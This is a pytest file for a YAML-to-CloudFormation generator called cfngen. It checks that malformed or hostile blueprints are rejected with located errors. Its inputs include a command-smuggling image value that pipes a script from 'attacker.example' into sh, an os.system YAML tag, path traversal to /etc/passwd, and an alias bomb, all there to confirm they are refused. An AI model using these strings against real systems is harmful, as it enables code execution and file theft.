"""The bad-input corpus: each file gives its own clear message, at its own place, exit 2, no traceback, nothing written."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from cfngen.blueprint import _yamlsource
from cfngen.blueprint._yamlsource import MAX_FILE_BYTES, MAX_NODES
from cfngen.cli import main
from cfngen.errors import BlueprintError

BAD = Path(__file__).parent / "bad"

# case -> (file the problem is in, line, text the message must contain)
CASES: dict[str, tuple[str, int, str]] = {
    "broken_yaml": ("broken_yaml.yaml", 4, "invalid YAML"),
    "wrong_type": ("wrong_type.yaml", 4, "services.0.port: expected a whole number, found the text 'eighty'"),
    "out_of_range": (
        "out_of_range.yaml",
        3,
        "network.availability_zones: Input should be less than or equal to 6, found 9",
    ),
    "unknown_key": ("unknown_key.yaml", 2, "unknown key 'regoin'; did you mean 'region'?"),
    "duplicate_service": ("duplicate_service.yaml", 4, "services.1.name: 'api' clashes with services[0]"),
    "clashing_ports": (
        "clashing_ports.yaml",
        4,
        "services.1.listener_port: port 8080 is already used by services[0].test_listener_port",
    ),
    "overfull_load_balancer": (
        "overfull_load_balancer.yaml",
        10,
        "services.1.load_balancer: load balancer 1 would serve 2 services; it holds 1",
    ),
    "missing_service_file": ("missing_service_file.yaml", 3, "services/does-not-exist.yaml"),
    "empty": ("empty.yaml", 1, "file is empty"),
    "dangerous_tag": ("dangerous_tag.yaml", 1, "python/object/apply:os.system' is not allowed"),
    "alias_bomb": ("alias_bomb.yaml", 1, "alias bomb"),
    "duplicate_key": ("duplicate_key.yaml", 4, "duplicate key 'name'"),
    "top_level_list": ("top_level_list.yaml", 1, "expected a mapping at the top level, found a list"),
    "database_missing": (
        "database_missing.yaml",
        5,
        "services.0.database: is true but the blueprint has no database section",
    ),
    "proxy_over_limit": (
        "proxy_over_limit.yaml",
        5,
        "database.access: is proxy, which holds at most 100 services with database: true",
    ),
    "database_access_without_database": (
        "database_access_without_database.yaml",
        7,
        "services.0.database_access: is set but database is not true",
    ),
    "database_grant_on_system_schema": (
        "database_grant_on_system_schema.yaml",
        10,
        "services.0.database_access.grants.1.schema: 'mysql' is one of MySQL's own schemas",
    ),
    "bad_cidr": ("bad_cidr.yaml", 3, "network.cidr: expected an IPv4 CIDR"),
    "cidr_too_small": ("cidr_too_small.yaml", 3, "network.cidr: prefix /26 is out of range"),
    "capacity_order": (
        "capacity_order.yaml",
        4,
        "cluster.desired_capacity: must satisfy min_size (4) <= desired_capacity (2)",
    ),
    "nat_over_azs": ("nat_over_azs.yaml", 4, "network.nat_gateways: must be at most availability_zones (2), found 3"),
    "canary_on_nlb": ("canary_on_nlb.yaml", 3, "cannot be used behind a Network Load Balancer"),
    "bad_service_file": ("services/bad.yaml", 3, "services.0.memroy: unknown key 'memroy'; did you mean 'memory'?"),
    "not_utf8": ("not_utf8.yaml", 1, "not UTF-8"),
    "recursive_alias": ("recursive_alias.yaml", 2, "recursive alias"),
    "no_services": ("no_services.yaml", 1, "services: required, but missing"),
    "bad_name": ("bad_name.yaml", 1, "name: expected text matching"),
    "too_many_readers": (
        "too_many_readers.yaml",
        3,
        "database.readers: Input should be less than or equal to 15, found 16",
    ),
    "unknown_instance_class": (
        "unknown_instance_class.yaml",
        3,
        "database.instance_class: 'db.t3.mediun' is not an Aurora MySQL 3 instance class "
        "cfngen knows; did you mean 'db.t3.medium'?",
    ),
    "cloudformation_tag": ("cloudformation_tag.yaml", 2, "YAML tag '!Ref' is not allowed"),
    "same_listener_ports": (
        "same_listener_ports.yaml",
        3,
        "services.0.test_listener_port: must differ from listener_port (80)",
    ),
    "service_not_mapping": (
        "service_not_mapping.yaml",
        3,
        "services.0: Input should be a valid dictionary or instance of Service",
    ),
    # preflight: what AWS would refuse or could never run (issue 18)
    "unknown_region": ("unknown_region.yaml", 2, "region: unknown AWS region 'eu-central-9'; did you mean"),
    "more_zones_than_region": (
        "more_zones_than_region.yaml",
        4,
        "network.availability_zones: eu-central-1 offers 3 Availability Zones, found 6",
    ),
    "unknown_instance_type": (
        "unknown_instance_type.yaml",
        3,
        "cluster.instance_type: 't3.superhuge' is not an EC2 instance type us-east-1 offers; did you mean 't3.large'?",
    ),
    "task_cpu_over_instance": (
        "task_cpu_over_instance.yaml",
        6,
        "services.0.cpu: 4096 CPU units do not fit a t3.small, which offers tasks 2048",
    ),
    "task_memory_over_instance": (
        "task_memory_over_instance.yaml",
        6,
        "services.0.memory: 2048 MiB do not fit a t3.small, which offers tasks 1945 MiB",
    ),
    "unplaceable_tasks": (
        "unplaceable_tasks.yaml",
        7,
        "cluster.max_size: cannot place the desired tasks: 3 tasks and the second set a blue/green "
        "deployment starts beside them need 6 network interfaces; 2 t3.small instances",
    ),
    "trunking_unsupported": (
        "trunking_unsupported.yaml",
        4,
        "cluster.awsvpc_trunking: t3.small does not support ENI trunking",
    ),
    "quoted_boolean": (
        "quoted_boolean.yaml",
        3,
        "database.deletion_protection: expected true or false, found the text 'off'; write false without quotes",
    ),
    "quoted_number": (
        "quoted_number.yaml",
        3,
        "services.0.port: expected a whole number, found the text '8080'; write 8080 without quotes",
    ),
    "logical_id_clash": (
        "logical_id_clash.yaml",
        4,
        "services.1.name: 'web2' clashes with services[0] ('web-2'): both give the logical id 'Web2'",
    ),
    "bad_image": (
        "bad_image.yaml",
        5,
        "services.0.image: 'nginx:latest; curl attacker.example | sh' is not an image reference",
    ),
    # included files stay inside the repository, and a file that is not a blueprint is never quoted (issue 21)
    "absolute_service_path": (
        "absolute_service_path.yaml",
        3,
        "services.0: service file '/etc/passwd' is an absolute path",
    ),
    "service_path_leaves_repository": ("service_path_leaves_repository.yaml", 3, "leaves the repository"),
    "extends_leaves_repository": (
        "extends_leaves_repository.yaml",
        1,
        "extends: '../../../../../../../../etc/passwd' leaves the repository",
    ),
    "not_a_service_file": (
        "services/registry-credentials.json",
        1,
        "services.0: is not a service file: none of its keys is a service field (its content is not shown)",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_bad_blueprint_gives_a_located_message_and_exit_2(
    case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file, line, text = CASES[case]
    outdir = tmp_path / "out"
    code = main(["synth", str(BAD / f"{case}.yaml"), "-o", str(outdir)])
    err = capsys.readouterr().err
    assert code == 2
    assert f"{BAD / file}:{line}:" in err, err
    assert text in err, err
    assert not outdir.exists(), "nothing may be written from a bad blueprint"


def test_every_case_has_a_file() -> None:
    corpus = {path.stem for path in BAD.glob("*.yaml")}
    assert corpus == set(CASES)


def test_dangerous_tag_is_never_executed() -> None:
    marker = Path("/tmp/cfngen-pwned")
    marker.unlink(missing_ok=True)
    main(["lint", str(BAD / "dangerous_tag.yaml")])
    assert not marker.exists()


def test_all_problems_of_a_file_are_reported_at_once(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    blueprint = tmp_path / "many.yaml"
    blueprint.write_text(
        "name: Bad_Name\nregoin: us-east-1\ncluster: {target_capacity: 0}\nservices:\n  - {name: api, port: 70000}\n",
        encoding="utf-8",
    )
    assert main(["synth", str(blueprint), "-o", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert "4 problems" in err
    for field in ("name:", "regoin:", "cluster.target_capacity:", "services.0.port:"):
        assert field in err


def test_the_installed_command_prints_no_traceback(tmp_path: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "cfngen", "synth", str(BAD / "wrong_type.yaml"), "-o", str(tmp_path / "out")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert "wrong_type.yaml:4:" in result.stderr


def test_a_file_that_is_not_a_service_file_is_never_quoted(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Issue 21: a token file named as a service file must not reach the error message."""
    assert main(["synth", str(BAD / "not_a_service_file.yaml"), "-o", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert "registry-credentials.json:1:1" in err
    assert "c2VjcmV0" not in err and "registry.example" not in err and "auths" not in err


def _project(tmp_path: Path, services: str) -> Path:
    """A repository (it has a .git) holding blueprints/app.yaml that names `services`."""
    (tmp_path / ".git").mkdir()
    (tmp_path / "blueprints").mkdir()
    blueprint = tmp_path / "blueprints" / "app.yaml"
    blueprint.write_text(f"name: app\nservices:\n  - {services}\n", encoding="utf-8")
    return blueprint


def test_a_service_file_symlinked_out_of_the_repository_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outside = tmp_path / "outside.yaml"
    outside.write_text("name: api\nport: 80\nsecret: hunter2\n", encoding="utf-8")
    repo = tmp_path / "repo"
    repo.mkdir()
    blueprint = _project(repo, "../services/api.yaml")
    (repo / "services").mkdir()
    (repo / "services" / "api.yaml").symlink_to(outside)
    assert main(["synth", str(blueprint), "-o", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert "services.0: service file '../services/api.yaml' is a symbolic link to a file outside the repository" in err
    assert "hunter2" not in err


def test_a_service_file_inside_the_repository_above_the_blueprint_stays_valid(tmp_path: Path) -> None:
    blueprint = _project(tmp_path, "../services/api/service.yaml")
    (tmp_path / "services" / "api").mkdir(parents=True)
    (tmp_path / "services" / "api" / "service.yaml").write_text("name: api\nport: 8080\n", encoding="utf-8")
    assert main(["synth", str(blueprint), "-o", str(tmp_path / "out")]) == 0


def test_a_pipe_named_as_a_service_file_is_refused_without_waiting(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 21: /dev/stdin hung the load; anything but a regular file is refused before it is read."""
    blueprint = _project(tmp_path, "../services/pipe.yaml")
    (tmp_path / "services").mkdir()
    os.mkfifo(tmp_path / "services" / "pipe.yaml")
    assert main(["synth", str(blueprint), "-o", str(tmp_path / "out")]) == 2
    assert "is not a regular file" in capsys.readouterr().err


def test_a_file_past_the_byte_cap_is_refused_after_reading_the_cap_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    blueprint = _project(tmp_path, "../services/big.yaml")
    (tmp_path / "services").mkdir()
    (tmp_path / "services" / "big.yaml").write_text("# " + "x" * MAX_FILE_BYTES + "\n", encoding="utf-8")
    assert main(["synth", str(blueprint), "-o", str(tmp_path / "out")]) == 2
    assert f"file is larger than {MAX_FILE_BYTES} bytes" in capsys.readouterr().err


def test_the_alias_limit_counts_the_values_of_every_file_of_a_load(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 21: one file of ~120,000 values listed 80 times took 29 s and 2.7 GB; the limit is per load."""
    per_file = MAX_NODES * 2 // 3
    tens = per_file // 1000
    blueprint = _project(tmp_path, "../services/big.yaml\n" + "  - ../services/big.yaml\n" * 79)
    (tmp_path / "services").mkdir()
    (tmp_path / "services" / "big.yaml").write_text(
        "name: api\nport: 8080\n"
        "a: &a [" + ", ".join(["x"] * 10) + "]\n"
        "b: &b [" + ", ".join(["*a"] * 100) + "]\n"
        "c: [" + ", ".join(["*b"] * tens) + "]\n",
        encoding="utf-8",
    )
    assert main(["synth", str(blueprint), "-o", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert f"more than {MAX_NODES} values after expanding aliases" in err
    assert err.count("alias bomb") == 1


@pytest.mark.parametrize(
    ("override", "message"),
    [
        ("services.web.port=0x1F90", "'0x1F90' is not a decimal whole number; write 8080 if that is what you mean"),
        ("services.web.port=1_000", "'1_000' is not a decimal whole number; write 1000"),
        ("services.web.database=yes", "'yes' is read as true; write true or false"),
        ("database.deletion_protection=off", "'off' is read as false; write true or false"),
    ],
)
def test_a_set_value_is_never_coerced(
    override: str, message: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code = main(
        ["synth", str(BAD.parent / "blueprints" / "minimal.yaml"), "--set", override, "-o", str(tmp_path / "o")]
    )
    assert code == 2
    assert message in capsys.readouterr().err
    assert not (tmp_path / "o").exists()


def test_set_bytes_that_are_not_utf8_exit_2_without_a_traceback(tmp_path: Path) -> None:
    """Issue 21: argv bytes that are not UTF-8 reached the YAML writer as lone surrogates and raised."""
    result = subprocess.run(
        [
            os.fsencode(sys.executable),
            b"-m",
            b"cfngen",
            b"synth",
            os.fsencode(BAD.parent / "blueprints" / "minimal.yaml"),
            b"--set",
            b"services.0.environment.GREETING=caf\xe9",
            b"-o",
            os.fsencode(tmp_path / "out"),
        ],
        capture_output=True,
        check=False,
    )
    assert result.returncode == 2
    assert b"Traceback" not in result.stderr
    assert b"is not UTF-8 text" in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_lone_surrogate_in_a_value_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """A surrogate cannot be written as UTF-8: PyYAML's pure-Python reader (used where libyaml is missing) lets
    the escape in, and the templates could not be written; the loader refuses it at its place."""
    monkeypatch.setattr(_yamlsource, "_Loader", yaml.SafeLoader)
    with pytest.raises(BlueprintError, match=r"x.yaml:1:7: text holds a lone surrogate"):
        _yamlsource.loads_yaml('name: "\\ud800"\n', Path("x.yaml"))
